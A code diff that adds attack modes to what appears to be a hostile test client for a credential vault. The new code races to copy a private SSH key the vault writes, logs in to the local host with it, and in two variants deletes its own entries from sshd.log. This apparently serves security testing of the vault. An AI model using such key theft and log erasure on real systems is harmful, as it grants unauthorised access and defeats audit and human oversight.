@@ -21,6 +21,11 @@ processes of its user, the right to name any pid in SCM_CREDENTIALS):
   ride_create      the same with the first POST it saw (a second effect, no idempotency key)
   ride_setup       as ride_create, its correlation id starting "setup-" (the runner's own prefix)
   ride_replay      as ride_read, the GET sent again byte for byte (the vault's correlation id)
+  ssh_workkey      while the vault runs its SSH step, copies the key the vault wrote for that call
+                   (a private file under its home's work/ directory); after its steps logs in to
+                   the host with it (port from the sshd_config beside the home) and runs `true`
+  ssh_workkey_hide the same, then removes its login's lines from the host's sshd.log
+  ssh_workkey_swap the same, writing the log without them to another file renamed over its name
 """
 
 from __future__ import annotations
@@ -259,6 +264,69 @@ def ride(kind: bytes) -> None:
     log("no connection of the vault's to ride")
 
 
+KEYS: list = []
+
+
+def watch_keys() -> None:
+    import glob
+    import threading
+
+    def loop() -> None:
+        while left() > 0 and not KEYS:
+            for p in glob.glob(os.path.join(HOME, "work", "*", "id-*")):
+                try:
+                    key = open(p, "rb").read()
+                except OSError:
+                    continue
+                if b"-----END" in key:  # written whole
+                    KEYS.append(key)
+                    log("copied the vault's key file", os.path.basename(p))
+                    return
+            time.sleep(0.001)
+    threading.Thread(target=loop, daemon=True).start()
+
+
+def ssh_with_copied_key() -> None:
+    import glob
+    import subprocess
+    if not KEYS:
+        log("no key copied")
+        return
+    conf = glob.glob(os.path.join(os.path.dirname(HOME), "**", "sshd_config"), recursive=True)
+    if not conf:
+        log("no sshd_config")
+        return
+    port = re.search(r"^Port (\d+)", open(conf[0]).read(), re.M)
+    path = os.path.join(TASK["state_dir"], ".k")
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+    os.write(fd, KEYS[0])
+    os.close(fd)
+    try:
+        r = subprocess.run(["ssh", "-F", "/dev/null", "-i", path, "-p", port.group(1) if port else "22",
+                            "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
+                            "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=3",
+                            f"{os.environ.get('USER') or 'root'}@127.0.0.1", "true"],
+                           capture_output=True, text=True, timeout=8)
+        log("ssh", r.returncode, r.stderr[-200:])
+    finally:
+        os.unlink(path)
+    if MODE in ("ssh_workkey_hide", "ssh_workkey_swap"):
+        logf = os.path.join(os.path.dirname(conf[0]), "sshd.log")
+        time.sleep(0.3)  # sshd writes the session's close
+        lines = open(logf, "rb").read().splitlines(keepends=True)
+        # its own connection: every line of the last "Connection from" on
+        mine = max((i for i, ln in enumerate(lines) if b"Connection from" in ln), default=len(lines))
+        if MODE == "ssh_workkey_swap":  # another file renamed over its name, as `sed -i` does
+            with open(logf + ".new", "wb") as f:
+                f.write(b"".join(lines[:mine]))
+            os.rename(logf + ".new", logf)
+        else:
+            with open(logf, "r+b") as f:
+                f.truncate(0)
+                f.write(b"".join(lines[:mine]))
+        log("sshd.log cut from line", mine, "of", len(lines))
+
+
 # ---- the task --------------------------------------------------------------------------------
 
 
@@ -291,6 +359,8 @@ def main() -> int:
         unlock_on_stolen()
     if MODE.startswith("ride"):
         sniff()
+    if MODE.startswith("ssh_workkey"):
+        watch_keys()
     conn = Conn()
     sid = conn.rpc("session.open", {"agent": TASK["agent"], "run_id": RUN_ID})["result"]["session_id"]
     data: dict = {}
@@ -327,6 +397,8 @@ def main() -> int:
         ride(b"POST")
     if MODE == "ride_replay":
         ride(b"GET ")
+    if MODE.startswith("ssh_workkey"):
+        ssh_with_copied_key()
     print("done: every step succeeded" if ok else why, flush=True)
     return 0
 
